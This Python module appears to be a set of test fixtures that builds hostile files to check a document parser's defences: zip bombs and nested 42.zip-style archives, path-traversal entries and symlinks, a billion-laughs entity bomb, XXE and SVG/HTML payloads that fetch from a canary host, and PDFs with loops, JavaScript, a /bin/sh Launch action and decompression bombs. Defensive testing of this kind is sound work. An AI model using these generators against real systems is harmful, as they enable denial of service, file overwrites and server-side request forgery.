"""Documents that are made to hurt. Each is small until somebody believes it; `full` makes it as large as it can be.

Archives hold one stream under many names, archives in archives, or another size than they say; PDFs point at
themselves; XML defines what expands or is fetched. What would be fetched is at `place`, where a canary listens.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from functools import cache

from tests.unit.workers.retrieval.parsing import samples

_LOCAL = struct.Struct("<4s5H3I2H")
_CENTRAL = struct.Struct("<4s6H3I5H2I")
_END = struct.Struct("<4s4H2IH")
_MIB = 1 << 20
_MAIN = "word/document.xml"
_BLANKS = b" " * _MIB


@cache
def swollen(mib: int, what: bytes = b"\0") -> bytes:
    """Return so many MiB of one byte as a raw deflate stream: one block repeated, since blocks are independent."""
    stream = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    piece = stream.compress(what * _MIB) + stream.flush(zlib.Z_FULL_FLUSH)
    return piece * mib + b"\3\0"


# ── archives ──


def one_stream(name: bytes, stream: bytes, size: int, count: int, *, extra: bytes = b"", claims: int = -1) -> bytes:
    """Build an archive of one stream under `count` names, the first a document's own. `claims` is its stated size."""
    told = size if claims < 0 else claims
    crc = 0
    local = _LOCAL.pack(b"PK\3\4", 45, 0, 8, 0, 0, crc, len(stream), told, len(name), len(extra))
    file = io.BytesIO()
    file.write(local + name + extra + stream)
    start = file.tell()
    for n in range(count):
        alias = name if n == 0 else b"%d" % n
        head = (b"PK\1\2", 45, 45, 0, 8, 0, 0, crc, len(stream), told, len(alias), len(extra), 0, 0, 0, 0, 0)
        file.write(_CENTRAL.pack(*head) + alias + extra)
    length = file.tell() - start
    shown = min(count, 0xFFFF)
    file.write(_END.pack(b"PK\5\6", 0, 0, shown, shown, length, start, 0))
    return file.getvalue()


def overlapping(*, full: bool, claims: int = -1) -> bytes:
    """Write names that quote the next one's header in a stored block and share one kernel.

    `claims` is the size that each says it has.
    """
    count, mib = (9_000, 1024) if full else (1_000, 16)
    body, size = swollen(mib), mib * _MIB
    parts: list[tuple[bytes, int, int]] = []  # its header, its packed and its real size, from the last one back
    behind: list[bytes] = [body]
    packed = len(body)
    for n in reversed(range(count)):
        name = _MAIN.encode() if n == 0 else b"%d" % n
        header = _LOCAL.pack(b"PK\3\4", 45, 0, 8, 0, 0, 0, packed & 0xFFFFFFFF, size & 0xFFFFFFFF, len(name), 0) + name
        parts.append((header, packed, size))
        quote = b"\0" + struct.pack("<HH", len(header), len(header) ^ 0xFFFF)
        behind += [header, quote]
        packed, size = packed + len(header) + len(quote), size + len(header)
    behind.pop()  # nobody quotes the first
    file = io.BytesIO()
    file.write(b"".join(reversed(behind)))
    start, offset = file.tell(), 0
    for header, packed, size in reversed(parts):
        name, sizes = header[_LOCAL.size :], (packed & 0xFFFFFFFF, min(size, 0xFFFFFFFF) if claims < 0 else claims)
        file.write(_CENTRAL.pack(b"PK\1\2", 45, 45, 0, 8, 0, 0, 0, *sizes, len(name), 0, 0, 0, 0, 0, offset) + name)
        offset += len(header) + 5
    file.write(_END.pack(b"PK\5\6", 0, 0, min(count, 0xFFFF), min(count, 0xFFFF), file.tell() - start, start, 0))
    return file.getvalue()


@cache
def nested(*, full: bool) -> bytes:
    """Return an archive like 42.zip: sixteen archives in each, five levels deep, with zeros at the lowest level."""
    level = one_stream(b"0.dll", swollen(1024 if full else 16), (1024 if full else 16) * _MIB, 1)
    for _ in range(5):
        level = samples.packed({f"lib {n}.zip": level for n in range(16)})
    return level


def crowded(*, full: bool) -> bytes:
    """Build a document of a million empty parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(_MAIN, "<w/>")
        for n in range(1_000_000 if full else 20_000):
            archive.writestr(zipfile.ZipInfo(str(n)), b"")
    return file.getvalue()


def zip64(claims: int, *, full: bool) -> bytes:
    """Build a stream of many MiB whose size in the extra field is false."""
    mib = 1024 if full else 64
    extra = struct.pack("<HHQ", 1, 8, claims)
    return one_stream(_MAIN.encode(), swollen(mib), mib * _MIB, 1, extra=extra, claims=0xFFFFFFFF)


def leading_out(outside: str) -> bytes:
    """Build a document with parts that would be written outside of its folder, and a link that leads there."""
    file = io.BytesIO(samples.docx(samples.paragraph("An okapi among links.")))
    with zipfile.ZipFile(file, "a") as archive:
        for name in (f"../../../../../../../..{outside}", outside, "..\\..\\escaped"):
            archive.writestr(name, "escaped")
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, outside)
        archive.writestr("word/link/escaped", "escaped")
    return file.getvalue()


# ── XML ──

_DOCUMENT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body>'


def word(doctype: str, text: str) -> bytes:
    """Build a document with this DOCTYPE."""
    body = _DOCUMENT.format(samples.paragraph(text)) + "</w:document>"
    return samples.docx("", {_MAIN: f'<?xml version="1.0"?>{doctype}{body}'})


def laughs(levels: int = 9) -> str:
    """Build a "billion laughs" document."""
    rows = [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels + 1)]
    return '<!DOCTYPE w [<!ENTITY l0 "lol">' + "".join(rows) + "]>"


def fetching_word(place: str) -> bytes:
    """Build a document whose template and picture are at a URL."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rows = [
        f'<Relationship Id="r{n}" Type="{kind}/{name}" Target="{place}/{name}" TargetMode="External"/>'
        for n, name in enumerate(("attachedTemplate", "image", "oleObject", "frame"))
    ]
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    more = {"word/_rels/document.xml.rels": f'<Relationships xmlns="{space}">{"".join(rows)}</Relationships>'}
    return samples.docx(samples.paragraph("An okapi with a template."), more)


def picture_of_text(place: str) -> bytes:
    """Build an SVG with a script, an entity and pictures from another host."""
    return f"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{place}/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('{place}/script')">
<image xlink:href="{place}/image" width="1000000" height="1000000"/><script>fetch('{place}')</script>
<use xlink:href="{place}/use#a"/><text>An okapi &x;</text></svg>""".encode()


def page(place: str) -> bytes:
    """HTML that loads whatever can be loaded."""
    return f"""<!doctype html><html><head><base href="{place}/"><link rel="stylesheet" href="{place}/css">
<meta http-equiv="refresh" content="0;url={place}/refresh"><script src="{place}/js"></script></head>
<body><img src="{place}/img"><iframe src="{place}/frame"></iframe><object data="{place}/object"></object>
<p>An okapi on a page.</p></body></html>""".encode()


# ── PDF ──


def pdf(objects: Mapping[int, bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """Build a PDF of these objects, with a correct table."""
    file, places = bytearray(b"%PDF-1.7\n"), dict[int, int]()
    for number, body in objects.items():
        places[number] = len(file)
        file += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(file)
    file += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (n, place) for n, place in sorted(places.items()))
    return bytes(file + b"trailer<<%s/Size %d>>\nstartxref\n%d\n%%%%EOF" % (trailer, max(objects) + 1, xref))


def _one_page(page: bytes = b"", stream: bytes = b"", catalog: bytes = b"", more: Mapping[int, bytes] = {}) -> bytes:
    shown = stream or _stream(b"BT /F1 12 Tf 50 700 Td (An okapi on a sheet.) Tj ET")
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        3: b"<</Type/Page/Parent 2 0 R/Contents 4 0 R%s>>" % (page or _PAGE),
        4: shown,
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }
    return pdf(objects | dict(more))


_PAGE = b"/MediaBox[0 0 600 800]/Resources<</Font<</F1 5 0 R>>>>"


def _stream(data: bytes, facts: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), facts, data)


def inflating_pdf(*, full: bool) -> bytes:
    """Build a page of blanks packed three times over: a kilobyte that expands to gigabytes."""
    mib, check = (10_240 if full else 2_048), 1
    for _ in range(mib):
        check = zlib.adler32(_BLANKS, check)
    data = b"\x78\xda" + swollen(mib, b" ") + struct.pack(">I", check)
    for _ in range(2):
        data = zlib.compress(data, 9)
    return _one_page(stream=_stream(data, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"))


def circling_pdf() -> bytes:
    """Its table of objects names itself as the one before."""
    good = samples.pdf([["An okapi in a circle."]])
    start = good.rindex(b"startxref\n") + len(b"startxref\n")
    place = good[start:].split(b"\n")[0]
    return good.replace(b"trailer<<", b"trailer<</Prev %s" % place)


def endless_pages() -> bytes:
    """Build a tree of pages with a branch that is its own root."""
    return pdf(
        {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count 3/Parent 2 0 R/Kids[2 0 R 2 0 R 2 0 R]>>"}
    )


def many_pages(*, shared: bool) -> bytes:
    """Build a million pages: by a false count, or by a page that is listed a million times."""
    kids = b"[3 0 R]" if not shared else b"[10 0 R]"
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Count 1000000/Kids%s>>" % kids,
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    }
    for level in range(6 if shared else 0):
        below = 3 if level == 5 else 11 + level
        count = 10 ** (6 - level)
        row = b" ".join([b"%d 0 R" % below] * 10)
        objects[10 + level] = b"<</Type/Pages/Parent 2 0 R/Count %d/Kids[%s]>>" % (count, row)
    return pdf(objects)


def huge_picture_pdf(side: int) -> bytes:
    """Build a page with nothing but a picture that claims a width of a hundred thousand pixels in a few bytes."""
    facts = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8" % (side, side)
    picture = _stream(zlib.compress(bytes(_MIB)), facts + b"/Filter/FlateDecode")
    resources = b"/MediaBox[0 0 %d %d]/Resources<</XObject<</X 6 0 R>>>>" % (side, side)
    return _one_page(resources, _stream(b"q %d 0 0 %d 0 0 cm /X Do Q" % (side, side)), more={6: picture})


def acting_pdf(place: str) -> bytes:
    """With scripts, files inside, and actions that call, launch and submit."""
    link = place.encode()
    actions = {
        6: b"<</S/JavaScript/JS(app.launchURL\\('%s/js'\\))/Next[7 0 R 8 0 R 9 0 R]>>" % link,
        7: b"<</S/URI/URI(%s/uri)>>" % link,
        8: b"<</S/Launch/F(/bin/sh)>>",
        9: b"<</S/SubmitForm/F(%s/form)>>" % link,
        10: b"<</Names[(a.pdf) 11 0 R]>>",
        11: b"<</Type/Filespec/F(a.pdf)/EF<</F 12 0 R>>>>",
        12: _stream(b"%PDF-1.4 another file", b"/Type/EmbeddedFile"),
    }
    catalog = b"/OpenAction 6 0 R/AA<</WC 6 0 R>>/Names<</EmbeddedFiles 10 0 R/JavaScript<</Names[(a) 6 0 R]>>>>"
    return _one_page(catalog=catalog, more=actions)


def huge_png(side: int) -> bytes:
    """Build a picture that states its size and has only a few of its rows."""

    def chunks() -> Iterator[bytes]:
        for kind, data in (
            (b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)),
            (b"IDAT", zlib.compress(bytes(_MIB))),
            (b"IEND", b""),
        ):
            yield struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks())
